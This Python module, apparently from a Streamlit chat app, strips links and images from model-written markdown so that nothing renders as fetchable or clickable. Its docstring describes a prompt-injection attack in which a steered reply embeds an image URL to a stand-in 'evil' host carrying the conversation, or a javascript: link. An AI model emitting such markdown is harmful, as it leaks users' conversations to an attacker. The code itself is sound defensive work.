"""Model-written markdown made inert before a browser renders it.

A reply can carry text the model was steered into writing (a prompt injected through guidance or a
recording's metadata). Rendered as-is, `![x](https://evil/?q=...)` makes the browser fetch a URL
that can carry the conversation, and `[click](javascript:...)` or a bare link invites a click. Here
images become a note, links become their text with the address shown as code, and bare addresses
and reference definitions become code, so nothing is fetched and nothing is clickable; the rest of
the markdown (emphasis, lists, tables, citations such as [1]) is kept. Raw HTML is already not
rendered by Streamlit (unsafe_allow_html is off).
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
_LINK = re.compile(r"\[([^\]]+)\]\(\s*(?:<([^>]*)>|([^)\s]*))(?:\s+\"[^\"]*\")?\s*\)")
_REFERENCE = re.compile(r"^\s{0,3}\[([^\]]+)\]:\s*(\S+).*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]*:|www\.)[^>\s]*)>")
_BARE = re.compile(r"(?<![`\w])((?:https?|ftp|file|javascript|data):[^\s`<>)\]]+|www\.[^\s`<>)\]]+)")
_CODE = re.compile(r"(`+)(.*?)\1", re.DOTALL)


def _code(text: str) -> str:
    return "`" + text.replace("`", "'") + "`"


def inert_markdown(text: str) -> str:
    text = _IMAGE.sub(lambda m: f"(image not shown: {m[1] or 'no description'})", text)
    text = _LINK.sub(lambda m: f"{m[1]} ({_code(m[2] or m[3])})" if (m[2] or m[3]) else m[1], text)
    text = _REFERENCE.sub(lambda m: f"[{m[1]}] {_code(m[2])}", text)
    text = _AUTOLINK.sub(lambda m: _code(m[1]), text)
    # Bare addresses outside code spans become code spans (inside one they are already inert).
    parts = _CODE.split(text)
    out, k = [], 0
    while k < len(parts):
        out.append(_BARE.sub(lambda m: _code(m[1]), parts[k]))
        if k + 2 < len(parts):
            out.append(parts[k + 1] + parts[k + 2] + parts[k + 1])
        k += 3
    # Whatever the patterns missed (nested brackets, odd spacing): "](" no longer starts a link.
    return "".join(out).replace("](", "] (")
